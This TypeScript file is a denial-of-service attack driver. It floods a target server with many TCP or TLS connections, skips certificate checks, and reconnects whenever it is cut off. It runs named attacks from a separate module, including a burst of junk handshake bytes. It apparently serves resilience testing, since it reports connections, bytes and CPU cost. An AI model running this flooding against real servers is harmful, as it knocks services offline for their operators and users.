// SPDX-License-Identifier: Apache-2.0
// Attacks a server from a process of its own, as fast as it can, and comes back whenever it is cut off. An order a line
// on standard input, what came of it a line of JSON on standard output.
import { connect as connectTcp, type Socket } from 'node:net';
import { createInterface } from 'node:readline';
import { connect as connectTls, type SecureContext } from 'node:tls';
import { ATTACKS, type Request } from './attacks.ts';
import { contextFor, type Target } from './target.ts';

/** Attack `target` with `connections` at a time, from address `from`, for `ms`. */
export interface Order {
  readonly attack: string;
  readonly target: Target;
  readonly from: string;
  readonly connections: number;
  readonly ms: number;
}

/** What came of an order. */
export interface Outcome {
  /** Connections begun, and of these ended by the server. */
  readonly opened: number;
  readonly cut: number;
  readonly bytes: number;
  /** Processor time that attacking took, ms. */
  readonly cpuMs: number;
}

const context = await contextFor('attacker');
for await (const line of createInterface({ input: process.stdin })) {
  const outcome = await attack(JSON.parse(line) as Order, context);
  console.log(JSON.stringify(outcome));
}

function attack(
  { attack: name, connections, from, ms, target }: Order,
  secureContext: SecureContext,
): Promise<Outcome> {
  const count = { opened: 0, cut: 0, bytes: 0 };
  const before = process.cpuUsage();
  const there = { host: target.host, port: target.port, localAddress: from };
  const live = new Set<Socket>();
  let over = false;
  const dial = (): void => {
    if (over) return;
    count.opened++;
    const plain = !target.tls || name === 'many connections' || name === 'handshakes of nonsense';
    const socket = plain
      ? connectTcp(there)
      : connectTls({
          ...there,
          secureContext,
          ALPNProtocols: ['h2'],
          checkServerIdentity: () => undefined,
        });
    live.add(socket);
    socket.on('error', () => {});
    socket.on('data', () => {});
    socket.once('close', () => {
      live.delete(socket);
      if (over) return;
      count.cut++;
      setImmediate(dial);
    });
    socket.once(plain ? 'connect' : 'secureConnect', () => assault(socket, name, target.request, count));
  };
  for (let k = 0; k < connections; k++) dial();
  return new Promise((resolve) => {
    setTimeout(() => {
      over = true;
      for (const socket of live) socket.destroy();
      const { system, user } = process.cpuUsage(before);
      resolve({ ...count, cpuMs: (system + user) / 1000 });
    }, ms);
  });
}

function assault(socket: Socket, name: string, request: Request, count: { bytes: number }): void {
  const make = ATTACKS.get(name);
  if (make === undefined) {
    if (name === 'handshakes of nonsense') socket.write(Buffer.alloc(600, 0x16));
    else socket.destroy();
    return;
  }
  const { begin, next } = make(request);
  const say = (): void => {
    for (let part = next(); part !== undefined && !socket.destroyed; part = next()) {
      count.bytes += part.length;
      if (!socket.write(part)) return;
    }
  };
  socket.on('drain', say);
  socket.write(begin);
  say();
}
